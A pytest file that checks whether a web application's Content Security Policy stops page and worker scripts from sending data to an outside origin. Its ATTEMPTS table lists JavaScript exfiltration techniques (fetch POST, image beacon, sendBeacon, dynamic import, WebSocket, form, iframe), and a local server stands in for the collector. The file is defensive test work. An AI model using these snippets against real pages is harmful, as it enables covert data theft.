"""What the content policy stops: attempts to carry data to a third origin, from page and worker."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from .application import Application
from .servers import RunningPortal

ATTEMPTS = {
    "fetch": "(to) => fetch(to, {mode: 'no-cors', method: 'POST', body: 'names'}).catch(() => 0)",
    "image": "(to) => { new Image().src = to + '?names'; }",
    "beacon": "(to) => { navigator.sendBeacon(to, 'names'); }",
    "script": "(to) => import(to + 'names.js').catch(() => 0)",
    "socket": "(to) => { try { new WebSocket(to.replace('http', 'ws')); } catch {} }",
    "form": """(to) => {
      const form = document.createElement('form');
      form.action = to; form.method = 'post'; form.target = '_blank';
      document.body.append(form); form.submit(); form.remove();
    }""",
    "frame": """(to) => {
      const frame = document.createElement('iframe');
      frame.src = to; document.body.append(frame); frame.remove();
    }""",
}
FROM_WORKER = ("fetch", "script", "socket")


class Stranger:
    """A server that lets everybody in and remembers who came."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        stranger = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                stranger.visits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()

            do_POST = do_OPTIONS = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}/"


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    """A third origin, listening."""
    stranger = Stranger()
    thread = threading.Thread(target=stranger.server.serve_forever)
    thread.start()
    yield stranger
    stranger.server.shutdown()
    thread.join()
    stranger.server.server_close()


def test_nothing_of_what_is_tried_reaches_a_third_origin(
    open_application: Callable[..., Application], small_portal: RunningPortal, stranger: Stranger
) -> None:
    application = open_application(small_portal).open().engine_ready()
    unguarded = application.page.context.new_page()
    unguarded.evaluate("(to) => fetch(to, {mode: 'no-cors'})", stranger.address)
    assert stranger.visits == ["GET /"], "without the policy it is reached"
    stranger.visits.clear()
    own = [f for f in application.page.frames if f.url.startswith(small_portal.app_origin)]
    for attempt in ATTEMPTS.values():
        own[0].evaluate(attempt, stranger.address)
    (worker,) = application.page.workers
    for name in FROM_WORKER:
        worker.evaluate(ATTEMPTS[name], stranger.address)
    application.page.wait_for_timeout(1500)
    assert stranger.visits == []
    refused = [trouble for trouble in application.troubles if "Content Security Policy" in trouble]
    assert len(refused) >= len(ATTEMPTS) - 1
    application.troubles.clear()
